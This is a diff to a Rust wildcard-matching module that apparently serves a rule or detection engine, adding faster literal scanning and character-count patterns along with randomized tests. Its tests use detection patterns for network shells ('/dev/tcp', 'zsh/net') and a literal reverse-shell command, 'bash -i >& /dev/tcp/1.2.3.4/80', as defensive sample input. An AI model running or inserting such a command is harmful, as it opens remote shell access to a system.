@@ -1,11 +1,12 @@
 //! Runtime matchers built once when a program loads: constant sets (hashed when large),
 //! wildcard sets (exact / prefix / suffix / contains fast paths, the rest in one automaton;
-//! a few contains patterns are also searched directly in short strings, `needles.rs`),
+//! up to 64 contains patterns are also searched in one pass in strings of up to 512 bytes,
+//! `scan.rs`),
 //! regular-expression sets, and CIDR sets as sorted address ranges.
 
 use crate::glob::Glob;
-use crate::lits::Lits;
-use crate::needles::{self, Needles};
+use crate::lits::{eq_byte, Lits};
+use crate::scan::{self, Scan};
 use crate::value::{canonical, Scalar};
 use ahash::AHashSet;
 use aho_corasick::AhoCorasick;
@@ -111,6 +112,37 @@ enum Shape {
     Suffix(String),
     /// `*` alone, or patterns that match everything.
     Any,
+    /// Only `?`s and `*`s, some of each or `?`s alone: a test of the string's length in
+    /// characters (at least the `?`s' number when there is a `*`, exactly it otherwise).
+    Chars(Chars),
+}
+
+/// A pattern of `?`s and `*`s: how many `?`s, and whether it has a `*`.
+#[derive(Debug, Clone, Copy)]
+struct Chars {
+    count: usize,
+    more: bool,
+}
+
+impl Chars {
+    /// Whether a string of `s`'s length in characters matches (`s`: a `str`'s bytes).
+    #[inline]
+    fn admit(self, s: &[u8]) -> bool {
+        // A character is 1 to 4 bytes: the byte length often settles it without counting.
+        let (n, k) = (s.len(), self.count);
+        if n < k || (!self.more && n.div_ceil(4) > k) {
+            return false;
+        }
+        if self.more && n.div_ceil(4) >= k {
+            return true;
+        }
+        let chars = s.iter().filter(|&&b| b & 0xc0 != 0x80).count();
+        if self.more {
+            chars >= k
+        } else {
+            chars == k
+        }
+    }
 }
 
 /// A wildcard set ready for matching.
@@ -118,6 +150,10 @@ enum Shape {
 pub struct RtWildcard {
     /// Some pattern matches everything.
     any: bool,
+    /// The patterns of `?`s and `*`s (tested with the general patterns).
+    chars: Vec<Chars>,
+    /// There are general patterns or patterns of `?`s and `*`s.
+    wild: bool,
     /// The patterns without wildcards, `text*` and `*text` patterns, by shape (their text
     /// lower-cased when case-insensitive).
     exact: Lits,
@@ -125,13 +161,17 @@ pub struct RtWildcard {
     suffix: Lits,
     /// The `*text*` patterns' texts, as one automaton built when first needed.
     contains: Lazy<AhoCorasick>,
-    /// The same needles as `contains`, for short strings, when they are few.
-    few: Option<Needles>,
+    /// The same needles as `contains`, for strings of up to [`SCANNED_MAX`] bytes, when there
+    /// are at most [`scan::MAX`].
+    scanned: Option<Scan>,
     /// The other patterns as one regex, for long strings, built when first needed.
     general: Lazy<Regex>,
     /// The same patterns one by one, each with the ends every match of it has (checked
     /// first: most values fail them, and they cost a comparison each).
     globs: Vec<(Ends, Glob)>,
+    /// The globs' inner literals, found in one pass over a string the first time a glob's
+    /// ends fit it (each glob's `Ends::bit` names its literal here).
+    inner: Option<Scan>,
     case_insensitive: bool,
 }
 
@@ -199,17 +239,33 @@ fn build_contains(needles: &[String], ci: bool) -> Option<AhoCorasick> {
 /// (whose cost does not grow with the number of patterns or their stars).
 const GLOB_MAX: usize = 512;
 
+/// Longest string the contains patterns are looked for by [`Scan`] rather than the automaton
+/// (whose search, with its prefilter, costs less a byte, but whose building costs as much as
+/// scanning a few hundred kB).
+const SCANNED_MAX: usize = 512;
+
 /// What every match of a wildcard pattern has: the text before its first wildcard at the
 /// start, the text after its last at the end, and between them its longest literal piece.
 #[derive(Debug)]
 struct Ends {
+    /// ASCII lower-cased when the set ignores case, as are `suffix` and `inner`.
     prefix: Box<[u8]>,
     suffix: Box<[u8]>,
     inner: Box<[u8]>,
+    /// The three lengths summed: the shortest string that can match.
+    min_len: usize,
+    /// The inner literal's bit in the set's [`Scan`] (0: it has none, the literal is empty
+    /// or the scan was full).
+    bit: u64,
 }
 
 impl Ends {
-    fn of(p: &str) -> Ends {
+    fn of(p: &str, ci: bool) -> Ends {
+        let p = if ci {
+            p.to_ascii_lowercase()
+        } else {
+            p.to_string()
+        };
         let wild = ['*', '?'];
         let first = p.find(wild).unwrap_or(p.len());
         let last = p.rfind(wild).map_or(p.len(), |i| i + 1).max(first);
@@ -221,16 +277,30 @@ impl Ends {
             prefix: p.as_bytes()[..first].into(),
             suffix: p.as_bytes()[last..].into(),
             inner: inner.as_bytes().into(),
+            min_len: first + (p.len() - last) + inner.len(),
+            bit: 0,
         }
     }
 
-    /// Whether `s` starts, ends and has in between what a match must (ASCII letters folded
+    /// The part of `s` between the prefix and the suffix when `s` starts and ends as a match
+    /// must and is long enough to hold the inner literal there as well (ASCII letters folded
     /// when `ci`).
-    #[inline]
-    fn admit(&self, s: &[u8], ci: bool) -> bool {
+    #[inline(always)]
+    fn middle<'s>(&self, s: &'s [u8], ci: bool) -> Option<&'s [u8]> {
         let (p, x) = (&*self.prefix, &*self.suffix);
-        if s.len() < p.len() + x.len() + self.inner.len() {
-            return false;
+        if s.len() < self.min_len {
+            return None;
+        }
+        // The suffix's last byte and the prefix's first, where most strings fail, first.
+        if let (Some(&want), Some(&have)) = (x.last(), s.last()) {
+            if !eq_byte(have, want, ci) {
+                return None;
+            }
+        }
+        if let (Some(&want), Some(&have)) = (p.first(), s.first()) {
+            if !eq_byte(have, want, ci) {
+                return None;
+            }
         }
         let (head, middle, tail) = (
             &s[..p.len()],
@@ -242,8 +312,41 @@ impl Ends {
         } else {
             head == p && tail == x
         };
-        ends && occurs(middle, &self.inner, ci)
+        ends.then_some(middle)
     }
+
+    /// Whether `s` starts, ends and has in between what a match must.
+    #[inline]
+    fn admit(&self, s: &[u8], ci: bool) -> bool {
+        self.middle(s, ci)
+            .is_some_and(|middle| occurs(middle, &self.inner, ci))
+    }
+}
+
+/// The scan for the globs' distinct non-empty inner literals (the first [`scan::MAX`]), each
+/// glob's `Ends::bit` set to its literal's.
+fn inner_scan(globs: &mut [(Ends, Glob)], ci: bool) -> Option<Scan> {
+    let mut needles: Vec<Box<[u8]>> = Vec::new();
+    for (ends, _) in globs.iter_mut() {
+        if ends.inner.is_empty() {
+            continue;
+        }
+        let folded = |n: &[u8]| n.eq_ignore_ascii_case(&ends.inner);
+        let j = match needles
+            .iter()
+            .position(|n| if ci { folded(n) } else { **n == *ends.inner })
+        {
+            Some(j) => j,
+            None if needles.len() < scan::MAX => {
+                needles.push(ends.inner.clone());
+                needles.len() - 1
+            }
+            None => continue,
+        };
+        ends.bit = 1 << j;
+    }
+    let refs: Vec<&[u8]> = needles.iter().map(|n| &**n).collect();
+    Scan::new(&refs, ci)
 }
 
 /// Whether `needle` occurs in `hay`, ASCII letters compared case-insensitively when `ci`.
@@ -276,6 +379,11 @@ fn classify(p: &str) -> Option<Result<Shape, String>> {
     }
     if p.chars().all(|c| c == '*') {
         return Some(Ok(Shape::Any));
+    }
+    if p.chars().all(|c| c == '*' || c == '?') {
+        let count = p.chars().filter(|&c| c == '?').count();
+        let more = p.contains('*');
+        return Some(Ok(Shape::Chars(Chars { count, more })));
     }
     if let Some(body) = p.strip_prefix('*').and_then(|b| b.strip_suffix('*')) {
         if !inner_wild(body) {
@@ -324,6 +432,7 @@ impl RtWildcard {
             s.into_bytes().into_boxed_slice()
         };
         let mut any = false;
+        let mut chars = Vec::new();
         let (mut exact, mut prefix, mut suffix) = (Vec::new(), Vec::new(), Vec::new());
         let mut contains = Vec::new();
         let mut general = Vec::new();
@@ -334,53 +443,60 @@ impl RtWildcard {
                 Some(Ok(Shape::Prefix(s))) => prefix.push(fold(s)),
                 Some(Ok(Shape::Suffix(s))) => suffix.push(fold(s)),
                 Some(Ok(Shape::Any)) => any = true,
+                Some(Ok(Shape::Chars(c))) => chars.push(c),
                 Some(Err(body)) => contains.push(body),
                 None => {
                     general.push(wildcard_regex(p, ci));
-                    globs.push((Ends::of(p), Glob::new(p, ci)));
+                    globs.push((Ends::of(p, ci), Glob::new(p, ci)));
                 }
             }
         }
-        let few = if contains.is_empty() {
-            None
-        } else {
-            Needles::new(&contains, ci)
-        };
+        let needles: Vec<&[u8]> = contains.iter().map(|n| n.as_bytes()).collect();
+        let scanned = Scan::new(&needles, ci);
         let contains = Lazy::new(contains, ci, build_contains);
         let general = Lazy::new(general, ci, build_regex);
+        let inner = inner_scan(&mut globs, ci);
         RtWildcard {
             any,
+            wild: !(globs.is_empty() && chars.is_empty()),
+            chars,
             exact: Lits::new(exact),
             prefix: Lits::new(prefix),
             suffix: Lits::new(suffix),
             contains,
-            few,
+            scanned,
             general,
             globs,
+            inner,
             case_insensitive: ci,
         }
     }
 
     pub fn matches(&self, s: &str) -> bool {
-        let (bytes, ci) = (s.as_bytes(), self.case_insensitive);
+        self.matches_bytes(s.as_bytes())
+    }
+
+    /// [`RtWildcard::matches`] on a `str`'s bytes (a string value read without the
+    /// character-boundary checks of making it a `str`).
+    pub fn matches_bytes(&self, bytes: &[u8]) -> bool {
+        let ci = self.case_insensitive;
         self.any
             || self.exact.exact(bytes, ci)
             || self.prefix.prefix(bytes, ci)
             || self.suffix.suffix(bytes, ci)
-            || (!self.contains.is_empty() && self.contains_match(s))
-            || (!self.globs.is_empty() && self.general_match(s))
+            || (!self.contains.is_empty() && self.contains_match(bytes))
+            || (self.wild && self.general_match(bytes))
     }
 
     /// Whether some `*text*` pattern matches (out of line, as the automaton's search needs
     /// a large frame).
     #[inline(never)]
-    fn contains_match(&self, s: &str) -> bool {
-        let bytes = s.as_bytes();
-        if let Some(few) = self.few.as_ref().filter(|_| bytes.len() <= needles::SHORT) {
-            return few.found_in(bytes);
+    fn contains_match(&self, bytes: &[u8]) -> bool {
+        if let Some(scan) = self.scanned.as_ref().filter(|_| bytes.len() <= SCANNED_MAX) {
+            return scan.any(bytes);
         }
         match self.contains.get() {
-            Some(ac) => ac.is_match(s),
+            Some(ac) => ac.is_match(bytes),
             None => self
                 .contains
                 .patterns
@@ -389,21 +505,39 @@ impl RtWildcard {
         }
     }
 
-    /// Whether some general pattern matches.
+    /// Whether some general pattern, or pattern of `?`s and `*`s, matches.
     #[inline(never)]
-    fn general_match(&self, s: &str) -> bool {
-        let (bytes, ci) = (s.as_bytes(), self.case_insensitive);
+    fn general_match(&self, bytes: &[u8]) -> bool {
+        if self.chars.iter().any(|c| c.admit(bytes)) {
+            return true;
+        }
+        let ci = self.case_insensitive;
         if bytes.len() <= GLOB_MAX {
-            return self
-                .globs
-                .iter()
-                .any(|(ends, glob)| ends.admit(bytes, ci) && glob.matches(bytes));
+            // The first glob whose ends fit searches for its inner literal by itself; from
+            // the second on, all the literals are looked for in one pass (which costs about
+            // as much as one search), and a glob whose literal is not there is turned away.
+            let (mut searched, mut found) = (false, u64::MAX);
+            return self.globs.iter().any(|(ends, glob)| {
+                let Some(middle) = ends.middle(bytes, ci) else {
+                    return false;
+                };
+                if ends.bit != 0 {
+                    if searched && found == u64::MAX {
+                        found = self.inner.as_ref().map_or(u64::MAX, |s| s.found(bytes));
+                    }
+                    if found & ends.bit == 0 {
+                        return false;
+                    }
+                    searched = true;
+                }
+                occurs(middle, &ends.inner, ci) && glob.matches(bytes)
+            });
         }
         if !self.globs.iter().any(|(ends, _)| ends.admit(bytes, ci)) {
             return false;
         }
         match self.general.get() {
-            Some(re) => re.is_match(s),
+            Some(re) => re.is_match(bytes),
             None => self.globs.iter().any(|(_, glob)| glob.matches(bytes)),
         }
     }
@@ -515,7 +649,7 @@ mod tests {
         let cs = wc(&["*/dev/tcp/*"], false);
         assert!(!cs.matches("/DEV/TCP/x"));
         // Long strings go to the automaton, short ones to the direct search.
-        let long = format!("{}/DEV/TCP/1.2.3.4/80", "x".repeat(needles::SHORT));
+        let long = format!("{}/DEV/TCP/1.2.3.4/80", "x".repeat(SCANNED_MAX));
         assert!(w.matches(&long) && !cs.matches(&long));
         assert!(cs.matches(&long.to_ascii_lowercase()));
     }
@@ -579,6 +713,96 @@ mod tests {
         }
     }
 
+    /// Sets of several general patterns (inner literals shared, alike but for case, or a
+    /// piece of one another; some empty), matched on random strings made of the patterns'
+    /// pieces, against the set's regexes: the one pass for all inner literals must turn away
+    /// only what no pattern matches.
+    #[test]
+    fn sets_of_general_patterns_agree_with_their_regexes() {
+        let sets: [&[&str]; 3] = [
+            &[
+                "*a*bc*",
+                "*x*BC*",
+                "?:\\p f\\*.exe",
+                "?:\\P F\\*.exe",
+                "q*z",
+                "?*?Q",
+            ],
+            &["*@80\\*", "*@8080\\*", "*\\*.*@443\\*", "*a?*b", "*é*b*"],
+            &["*^*", "*`*", "*+*", "*^^*x", "Bc*a*", "?bc*"],
+        ];
+        let pieces = [
+            "a", "A", "bc", "BC", "x", "q", "z", "C:", "\\", "p f", "P F", ".exe", "@80", "@8080",
+            "@443", "é", "^", "`", "+", "b", " ",
+        ];
+        let mut seed = 0x2545_f491_4f6c_dd1du64;
+        let mut next = move |n: usize| {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            (seed % n as u64) as usize
+        };
+        let mut hits = 0;
+        for ci in [false, true] {
+            for patterns in sets {
+                let w = wc(patterns, ci);
+                let res: Vec<Regex> = patterns
+                    .iter()
+                    .filter_map(|p| Regex::new(&wildcard_regex(p, ci)).ok())
+                    .collect();
+                assert_eq!(res.len(), patterns.len());
+                for _ in 0..3000 {
+                    let v: String = (0..next(8)).map(|_| pieces[next(pieces.len())]).collect();
+                    let want = res.iter().any(|re| re.is_match(&v));
+                    assert_eq!(w.matches(&v), want, "{patterns:?} on {v:?}, ci {ci}");
+                    hits += usize::from(want);
+                }
+            }
+        }
+        assert!(
+            hits > 3000,
+            "only {hits} matches: the test checks too little"
+        );
+    }
+
+    /// Patterns of `?`s and `*`s, a test of length in characters, against their regexes on
+    /// strings of one- to four-byte characters.
+    #[test]
+    fn patterns_of_question_marks_and_stars_count_characters() {
+        let alphabet = ['a', 'é', '€', '𝄞'];
+        let patterns = [
+            "?", "??", "???", "?*", "*?", "?*?", "*??*", "????*", "?????",
+        ];
+        let mut seed = 0x9e37_79b9_7f4a_7c15u64;
+        let mut next = move |n: usize| {
+            seed ^= seed << 13;
+            seed ^= seed >> 7;
+            seed ^= seed << 17;
+            (seed % n as u64) as usize
+        };
+        let mut hits = 0;
+        for p in patterns {
+            assert!(matches!(classify(p), Some(Ok(Shape::Chars(_)))), "{p}");
+            let w = wc(&[p], true);
+            let re = match Regex::new(&wildcard_regex(p, true)) {
+                Ok(r) => r,
+                Err(e) => panic!("{p}: {e}"),
+            };
+            for _ in 0..400 {
+                let v: String = (0..next(8))
+                    .map(|_| alphabet[next(alphabet.len())])
+                    .collect();
+                let want = re.is_match(&v);
+                assert_eq!(w.matches(&v), want, "{p:?} on {v:?}");
+                hits += usize::from(want);
+            }
+        }
+        assert!(
+            hits > 1000,
+            "only {hits} matches: the test checks too little"
+        );
+    }
+
     #[test]
     fn the_general_regex_is_built_for_the_first_long_string() {
         // Patterns that need the general matcher: short strings never build the regex, the
@@ -603,9 +827,10 @@ mod tests {
 
     #[test]
     fn the_contains_automaton_is_built_for_the_first_string_that_needs_it() {
-        // Few needles: short strings use the direct search, a long one builds the automaton.
-        // Many needles: any string builds it. One that cannot be built answers alike.
-        let long = |s: &str| format!("{}{s}{}", "x".repeat(needles::SHORT), "y".repeat(5));
+        // Up to 64 needles: strings of up to SCANNED_MAX bytes are scanned, a longer one builds
+        // the automaton. More needles: any string builds it. One that cannot be built answers
+        // alike.
+        let long = |s: &str| format!("{}{s}{}", "x".repeat(SCANNED_MAX), "y".repeat(5));
         for ci in [false, true] {
             let w = wc(&["*/dev/tcp/*", "*zsh/net*"], ci);
             assert!(w.matches("bash -i >& /dev/tcp/1.2.3.4/80") && !w.matches("bash -l"));
@@ -613,14 +838,14 @@ mod tests {
             assert!(w.matches(&long("/dev/tcp/")) && !w.matches(&long("/dev/udp/")));
             assert!(w.contains.built());
             assert_eq!(w.matches(&long("/DEV/TCP/")), ci);
-            let needles: Vec<String> = (0..20).map(|i| format!("*needle{i}*")).collect();
+            let needles: Vec<String> = (0..=scan::MAX).map(|i| format!("*needle{i}*")).collect();
             let many: Vec<&str> = needles.iter().map(String::as_str).collect();
             let w = wc(&many, ci);
             assert!(w.matches("a needle7 b") && !w.matches("a needle b"));
             assert!(w.contains.built());
             let cases = [
                 (wc(&["*/dev/tcp/*", "*zsh/net*"], ci), "zsh/net", "zsh/ne"),
-                (wc(&many, ci), "needle19", "needle "),
+                (wc(&many, ci), "needle64", "needle "),
             ];
             for (mut broken, hit, miss) in cases {
                 broken.contains = Lazy::new(broken.contains.patterns.clone(), ci, |_, _| None);
